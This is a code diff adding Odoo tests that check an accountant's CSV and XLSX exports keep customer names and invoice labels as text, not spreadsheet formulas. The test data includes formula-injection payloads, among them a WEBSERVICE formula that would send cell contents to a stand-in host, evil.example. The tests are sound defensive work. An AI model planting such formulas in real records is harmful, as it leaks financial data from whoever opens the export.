@@ -2,12 +2,15 @@
 import csv
 import hashlib
 import io
+import re
+import zipfile
+from datetime import date, datetime
 from unittest.mock import patch
 
 import openpyxl
 
 from odoo.exceptions import AccessError
-from odoo.tests import JsonRpcException, tagged
+from odoo.tests import JsonRpcException, new_test_user, tagged
 from odoo.tools import mute_logger
 
 from ..models.accountant_portal.accountant_batch_export import FEC_WIZARD
@@ -306,3 +309,108 @@ class TestAccountantExportsFec(AccountantExportsCommon):
         self.assertEqual(batch.line_count, len(self._january_lines()))
         self.env.invalidate_all()
         self.assertEqual(self.company.fiscalyear_lock_date, lock_date, "a download never locks the books")
+
+
+@tagged("post_install", "-at_install")
+class TestAccountantExportsFormulaInjection(AccountantExportsCommon):
+    """Partner names (set by customers on /my/account) and line labels (set by
+    any invoicing user) end up in the file the accountant opens in a
+    spreadsheet: they must stay text there, never become formulas."""
+
+    LABELS = ("@SUM(1+1)", "+1+2", "-2+3")
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        Partner = cls.env["res.partner"]
+        cls.sum_partner = Partner.create({"name": "=1+1"})
+        cls.link_partner = Partner.create({"name": '=HYPERLINK("http://evil.example","x")'})
+        cls.labelled = cls._january_invoice(cls.sum_partner, [10, 20, 30], cls.LABELS)
+        cls._january_invoice(cls.link_partner, [40], ["http://evil.example/click"])
+
+    @classmethod
+    def _january_invoice(cls, partner, amounts, labels):
+        invoice = cls.init_invoice(
+            "out_invoice", partner=partner, invoice_date="2026-01-28", amounts=amounts, taxes=[]
+        )
+        for line, label in zip(invoice.invoice_line_ids, labels, strict=True):
+            line.name = label
+        invoice.action_post()
+        return invoice
+
+    def _csv_rows(self):
+        return list(csv.reader(io.StringIO(self._download("csv").content.decode("utf-8-sig"))))
+
+    def _formulas(self, sheet_xml):
+        return re.findall(r"<f[ >].*?</f>", sheet_xml)
+
+    def _xlsx(self):
+        content = self._download("xlsx").content
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+        return sheet_xml, rows
+
+    def test_csv_text_cells_are_neutralised(self):
+        rows = self._csv_rows()
+        partners = {row[5] for row in rows[1:]}
+        self.assertIn("'=1+1", partners)
+        self.assertIn('\'=HYPERLINK("http://evil.example","x")', partners)
+        labels = {row[6] for row in rows[1:]}
+        self.assertLessEqual({"'@SUM(1+1)", "'+1+2", "'-2+3"}, labels)
+        self.assertIn("http://evil.example/click", labels, "text that is no formula is left as is")
+        self.assertIn(self.partner_a.display_name, partners)
+        # No text cell opens a formula; amounts are numbers, a negative one unquoted.
+        for row in rows[1:]:
+            for index, cell in enumerate(row):
+                if index in (7, 8, 10):
+                    float(cell)
+                else:
+                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), row)
+        income = next(row for row in rows if row[6] == "'+1+2")
+        self.assertEqual((income[7], income[8], income[10]), ("0.0", "20.0", "-20.0"))
+        self.assertEqual(income[1], self.labelled.name)
+
+    def test_xlsx_has_no_formula_and_keeps_text_and_numbers(self):
+        sheet_xml, rows = self._xlsx()
+        self.assertEqual(self._formulas(sheet_xml), [])
+        partners = {row[5] for row in rows[1:]}
+        self.assertLessEqual({"=1+1", '=HYPERLINK("http://evil.example","x")'}, partners)
+        self.assertLessEqual({*self.LABELS, "http://evil.example/click"}, {row[6] for row in rows[1:]})
+        # Amounts stay numbers the accountant can sum, dates stay dates.
+        income = next(row for row in rows if row[6] == "+1+2")
+        self.assertEqual((income[7], income[8], income[10]), (0, 20, -20))
+        self.assertIsInstance(income[2], datetime)
+        self.assertEqual(income[2].date(), date(2026, 1, 28))
+        for row in rows[1:]:
+            self.assertTrue(all(isinstance(row[index], int | float) for index in (7, 8, 10)), row)
+        # No hyperlink either (strings_to_urls off).
+        self.assertNotIn("<hyperlink", sheet_xml)
+
+    def test_customer_renamed_on_my_account(self):
+        """The review's path: a portal customer names itself with a formula on
+        /my/account, is invoiced, and the accountant downloads the period."""
+        name = '=WEBSERVICE("http://evil.example/leak?"&A2&B2)'
+        customer = new_test_user(self.env, login="iwa_formula_customer", groups="base.group_portal")
+        self.authenticate(customer.login, customer.login)
+        response = self.url_open(
+            "/my/account",
+            data={
+                "csrf_token": self._csrf("/my/account"),
+                "name": name,
+                "email": "customer@example.com",
+                "phone": "0102030405",
+                "street": "1 rue de la Paix",
+                "city": "Paris",
+                "country_id": str(self.env.ref("base.fr").id),
+            },
+        )
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(customer.partner_id.name, name, "the portal saved the name")
+        self._january_invoice(customer.partner_id, [70], ["Consulting"])
+
+        self.authenticate(self.accountant.login, self.accountant.login)
+        sheet_xml, rows = self._xlsx()
+        self.assertEqual(self._formulas(sheet_xml), [])
+        self.assertIn(name, {row[5] for row in rows[1:]})
+        self.assertIn("'" + name, {row[5] for row in self._csv_rows()[1:]})
